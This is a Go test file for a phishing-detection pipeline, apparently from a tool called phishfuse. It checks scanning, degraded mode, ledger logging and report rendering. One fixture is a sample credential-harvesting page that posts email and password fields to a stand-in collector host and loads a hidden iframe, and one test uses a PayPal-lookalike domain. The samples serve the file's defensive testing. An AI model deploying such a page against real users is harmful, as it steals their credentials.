package pipeline

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ppiankov/phishfuse/internal/classifier"
	"github.com/ppiankov/phishfuse/internal/fusion"
	"github.com/ppiankov/phishfuse/internal/ledger"
	"github.com/ppiankov/phishfuse/internal/model"
	"github.com/ppiankov/phishfuse/internal/reason"
)

type stubResolver struct {
	err error
}

func (r stubResolver) LookupHost(ctx context.Context, host string) ([]string, error) {
	if r.err != nil {
		return nil, r.err
	}
	return []string{"93.184.216.34"}, nil
}

const phishingPage = `<html><head><title>Verify your account</title></head><body>
<p>Your account has been suspended. Verify your password immediately or it will be locked.</p>
<form action="https://collector.example.net/post" method="post">
<input type="email" name="email"><input type="password" name="pass">
<input type="hidden" name="a"><input type="hidden" name="b"><input type="hidden" name="c">
<button type="submit">Sign in</button>
</form>
<iframe src="https://collector.example.net/x" style="display:none"></iframe>
</body></html>`

func newTestPipeline(t *testing.T, opts ...Option) *Pipeline {
	t.Helper()
	registry, err := classifier.NewRegistry(classifier.Builtin())
	if err != nil {
		t.Fatalf("NewRegistry: %v", err)
	}
	engine, err := fusion.NewEngine(fusion.DefaultPolicy())
	if err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	fixed := time.Date(2026, 3, 1, 12, 30, 45, 0, time.Local)
	base := []Option{
		WithResolver(stubResolver{}, time.Second),
		WithLogger(slog.New(slog.NewTextHandler(io.Discard, nil))),
		WithClock(func() time.Time { return fixed }),
	}
	return NewPipeline(testHTTPConfig(), registry, engine, append(base, opts...)...)
}

func TestScan_FetchedPage(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, phishingPage)
	}))
	defer server.Close()

	l := ledger.NewCSV(t.TempDir())
	p := newTestPipeline(t, WithLedger(l))

	report, err := p.Scan(context.Background(), server.URL+"/login", "")
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if report.Degraded {
		t.Error("expected full scan, got degraded")
	}
	if len(report.AvailableSignals) != len(model.SignalOrder) {
		t.Errorf("expected all signals, got %v", report.AvailableSignals)
	}
	if !report.FinalLabel.Valid() || !report.RiskLevel.Valid() {
		t.Errorf("invalid verdict %s/%s", report.FinalLabel, report.RiskLevel)
	}
	if report.Probability < 0 || report.Probability > 100 {
		t.Errorf("probability out of range: %v", report.Probability)
	}
	if report.Fetch.StatusCode != 200 || !report.Fetch.Attempted {
		t.Errorf("unexpected fetch meta: %+v", report.Fetch)
	}
	if !contains(report.Reasons, reason.PasswordInput) {
		t.Errorf("expected %q in reasons, got %v", reason.PasswordInput, report.Reasons)
	}
	if report.DomainIntel != model.UnknownDomainInfo() {
		t.Errorf("expected unknown intel without a collector, got %+v", report.DomainIntel)
	}

	records, err := l.ReadAll(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 1 {
		t.Fatalf("expected 1 ledger row, got %d", len(records))
	}
	if records[0].Label != report.FinalLabel || records[0].Probability != report.Probability {
		t.Errorf("ledger row %+v does not match report", records[0])
	}
}

func TestScan_FetchFailureDegrades(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	target := server.URL
	server.Close()

	p := newTestPipeline(t)
	report, err := p.Scan(context.Background(), target, "")
	if err != nil {
		t.Fatalf("Scan should not fail on fetch error: %v", err)
	}
	if !report.Degraded {
		t.Error("expected degraded report")
	}
	if len(report.AvailableSignals) != 2 {
		t.Errorf("expected only mandatory signals, got %v", report.AvailableSignals)
	}
	if report.Fetch.Error == "" {
		t.Error("expected fetch error in metadata")
	}
	if !contains(report.Reasons, reason.DegradedMode) {
		t.Errorf("expected degraded reason, got %v", report.Reasons)
	}
}

func TestScan_EmptyBodyDegrades(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	defer server.Close()

	report, err := newTestPipeline(t).Scan(context.Background(), server.URL, "")
	if err != nil {
		t.Fatal(err)
	}
	if !report.Degraded || report.Fetch.Error != "empty response body" {
		t.Errorf("expected degraded empty body, got degraded=%v error=%q", report.Degraded, report.Fetch.Error)
	}
}

func TestScan_WhitespacePrefetchedDegrades(t *testing.T) {
	report, err := newTestPipeline(t).Scan(context.Background(), "https://example.org/", "  \n\t \r\n")
	if err != nil {
		t.Fatal(err)
	}
	if !report.Degraded || report.Fetch.Error != "empty response body" {
		t.Errorf("expected degraded empty body, got degraded=%v error=%q", report.Degraded, report.Fetch.Error)
	}
	if !report.Fetch.Prefetched || report.Fetch.Attempted {
		t.Errorf("whitespace content must not trigger a fetch, got %+v", report.Fetch)
	}
}

func TestScan_Prefetched(t *testing.T) {
	p := newTestPipeline(t)
	report, err := p.Scan(context.Background(), "secure-login.paypal.com.account-verify.example", phishingPage)
	if err != nil {
		t.Fatal(err)
	}
	if !report.Fetch.Prefetched || report.Fetch.Attempted {
		t.Errorf("expected prefetched meta, got %+v", report.Fetch)
	}
	if report.URL != "http://secure-login.paypal.com.account-verify.example" {
		t.Errorf("expected normalized URL, got %s", report.URL)
	}
	if report.Degraded {
		t.Error("prefetched content should run all signals")
	}
	if !contains(report.Reasons, reason.NoHTTPS) {
		t.Errorf("expected %q in reasons, got %v", reason.NoHTTPS, report.Reasons)
	}
}

func TestScan_Deterministic(t *testing.T) {
	p := newTestPipeline(t)
	a, err := p.Scan(context.Background(), "https://example.org/", phishingPage)
	if err != nil {
		t.Fatal(err)
	}
	b, err := p.Scan(context.Background(), "https://example.org/", phishingPage)
	if err != nil {
		t.Fatal(err)
	}
	if a.Probability != b.Probability || a.FinalLabel != b.FinalLabel {
		t.Errorf("same input gave different verdicts: %v/%s vs %v/%s", a.Probability, a.FinalLabel, b.Probability, b.FinalLabel)
	}
}

func TestScan_LedgerFailureKeepsVerdict(t *testing.T) {
	blocker := filepath.Join(t.TempDir(), "blocker")
	if err := os.WriteFile(blocker, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}

	var logs bytes.Buffer
	p := newTestPipeline(t,
		WithLedger(ledger.NewCSV(filepath.Join(blocker, "ledger"))),
		WithLogger(slog.New(slog.NewTextHandler(&logs, nil))))

	report, err := p.Scan(context.Background(), "https://example.org/", phishingPage)
	if err != nil {
		t.Fatalf("ledger failure must not fail the scan: %v", err)
	}
	if report.LedgerError == "" {
		t.Error("expected LedgerError to be set")
	}
	if !strings.Contains(logs.String(), "ledger append failed") {
		t.Errorf("expected ledger failure to be logged, got %q", logs.String())
	}
}

func TestScan_CancelledRequestStillRecorded(t *testing.T) {
	l := ledger.NewCSV(t.TempDir())
	p := newTestPipeline(t, WithLedger(l))

	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	report, err := p.Scan(ctx, "https://example.org/", phishingPage)
	if err != nil {
		t.Fatal(err)
	}
	if report.LedgerError != "" {
		t.Errorf("append should not follow request cancellation: %s", report.LedgerError)
	}

	stats, err := l.Stats(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if stats.Total != 1 || !stats.Consistent() {
		t.Errorf("expected the scan to be recorded, got %+v", stats)
	}
}

func TestScan_DNSFailure(t *testing.T) {
	p := newTestPipeline(t, WithResolver(stubResolver{err: errors.New("no such host")}, time.Second))
	report, err := p.Scan(context.Background(), "https://example.org/", phishingPage)
	if err != nil {
		t.Fatal(err)
	}
	if !contains(report.Reasons, reason.DNSFailure) {
		t.Errorf("expected %q in reasons, got %v", reason.DNSFailure, report.Reasons)
	}
}

func TestScan_InvalidURL(t *testing.T) {
	p := newTestPipeline(t)
	for _, input := range []string{"", "   ", "ftp://example.org", "http://"} {
		if _, err := p.Scan(context.Background(), input, ""); !errors.Is(err, ErrInvalidURL) {
			t.Errorf("Scan(%q): expected ErrInvalidURL, got %v", input, err)
		}
	}
}

func TestNormalizeURL(t *testing.T) {
	tests := []struct {
		in   string
		want string
	}{
		{"example.com", "http://example.com"},
		{"  https://example.com/a  ", "https://example.com/a"},
		{"HTTP://Example.com", "HTTP://Example.com"},
	}
	for _, tt := range tests {
		got, err := NormalizeURL(tt.in)
		if err != nil {
			t.Errorf("NormalizeURL(%q): %v", tt.in, err)
			continue
		}
		if got != tt.want {
			t.Errorf("NormalizeURL(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestRenderer(t *testing.T) {
	p := newTestPipeline(t)
	report, err := p.Scan(context.Background(), "https://example.org/", phishingPage)
	if err != nil {
		t.Fatal(err)
	}

	r := NewRenderer(true)
	md := r.Markdown(report)
	for _, want := range []string{"# Phishing scan: https://example.org/", "## Signals", "## Reasons", "Generated by phishfuse"} {
		if !strings.Contains(md, want) {
			t.Errorf("markdown missing %q", want)
		}
	}
	if strings.Contains(NewRenderer(false).Markdown(report), "Generated by phishfuse") {
		t.Error("footer rendered when disabled")
	}

	var summary bytes.Buffer
	r.RenderSummary(&summary, report)
	if !strings.Contains(summary.String(), string(report.FinalLabel)) {
		t.Errorf("summary missing label: %s", summary.String())
	}

	dir := t.TempDir()
	jsonPath := filepath.Join(dir, "report.json")
	if err := r.RenderJSON(report, jsonPath); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(jsonPath)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), `"final_label"`) {
		t.Errorf("unexpected JSON: %s", data)
	}
	if err := r.RenderMarkdown(report, filepath.Join(dir, "report.md")); err != nil {
		t.Fatal(err)
	}
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}
